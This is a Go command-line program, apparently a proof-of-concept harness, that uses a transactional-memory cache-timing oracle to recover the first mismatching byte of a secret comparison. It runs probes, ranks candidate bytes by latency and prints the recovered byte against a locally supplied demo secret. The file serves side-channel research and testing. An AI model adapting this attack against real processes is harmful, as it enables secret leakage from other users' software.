// Command tsx-attack recovers the first mismatching secret byte of a
// comparison through the transactional cache-timing oracle.
package main

import (
	"flag"
	"fmt"
	"os"

	"github.com/awnumar/memguard"

	ctmemcmp "github.com/r3tima/ct-memcmp"
)

func main() {
	secret := flag.String("secret", "SECRET", "Secret the comparison runs against")
	input := flag.String("input", "XECRET", "Attacker-controlled input")
	threshold := flag.Uint64("threshold", ctmemcmp.DefaultHitThreshold, "Cache-hit threshold in load-timer ticks")
	calibrate := flag.Bool("calibrate", false, "Measure the hit threshold instead of using -threshold")
	runs := flag.Int("runs", 1, "Number of probes")
	top := flag.Int("top", 5, "Ranked candidates to print per probe")
	flag.Parse()

	memguard.CatchInterrupt()
	defer memguard.Purge()

	if err := run([]byte(*secret), []byte(*input), *threshold, *calibrate, *runs, *top); err != nil {
		fmt.Fprintf(os.Stderr, "Error: %v\n", err)
		memguard.SafeExit(1)
	}
}

func run(secret, input []byte, threshold uint64, calibrate bool, runs, top int) error {
	if !ctmemcmp.TransactionsSupported() {
		fmt.Println("Warning: CPU lacks usable RTM; every probe will abort")
	}
	fmt.Printf("Load timer: %s\n", ctmemcmp.LoadTimerName())

	n := min(len(secret), len(input))

	// Moves the secret into locked memory and wipes the flag copy.
	locked := memguard.NewBufferFromBytes(secret)
	defer locked.Destroy()
	locked.Freeze()

	oracle, err := ctmemcmp.NewOracle(0)
	if err != nil {
		return err
	}
	defer oracle.Close()

	if calibrate {
		e, err := ctmemcmp.NewEngine()
		if err != nil {
			return err
		}
		if threshold, err = e.CalibrateHitThreshold(oracle, 16); err != nil {
			return err
		}
		fmt.Printf("Calibrated hit threshold: %d ticks\n", threshold)
	}

	e, err := ctmemcmp.NewEngine(ctmemcmp.WithHitThreshold(threshold))
	if err != nil {
		return err
	}

	votes := make(map[byte]int)
	for i := 0; i < runs; i++ {
		guess, res, err := e.Recover(locked.Bytes(), input, n, oracle)
		if err != nil {
			return err
		}
		fmt.Printf("Probe %d: %s\n", i+1, res)
		fmt.Printf("  %s\n", guess)
		for j, c := range guess.Ranked[:min(max(top, 0), len(guess.Ranked))] {
			fmt.Printf("  #%d 0x%02x %q latency=%d\n", j+1, c.Value, printable(c.Value), c.Latency)
		}
		if b, err := guess.Byte(); err == nil {
			votes[b]++
		}
	}

	if len(votes) == 0 {
		fmt.Println("No byte recovered")
		return nil
	}
	best, count := byte(0), 0
	for b, c := range votes {
		if c > count || (c == count && b < best) {
			best, count = b, c
		}
	}
	fmt.Printf("Recovered byte: 0x%02x %q (%d/%d probes)\n", best, printable(best), count, runs)
	return nil
}

func printable(b byte) rune {
	if b >= 0x20 && b < 0x7f {
		return rune(b)
	}
	return '.'
}
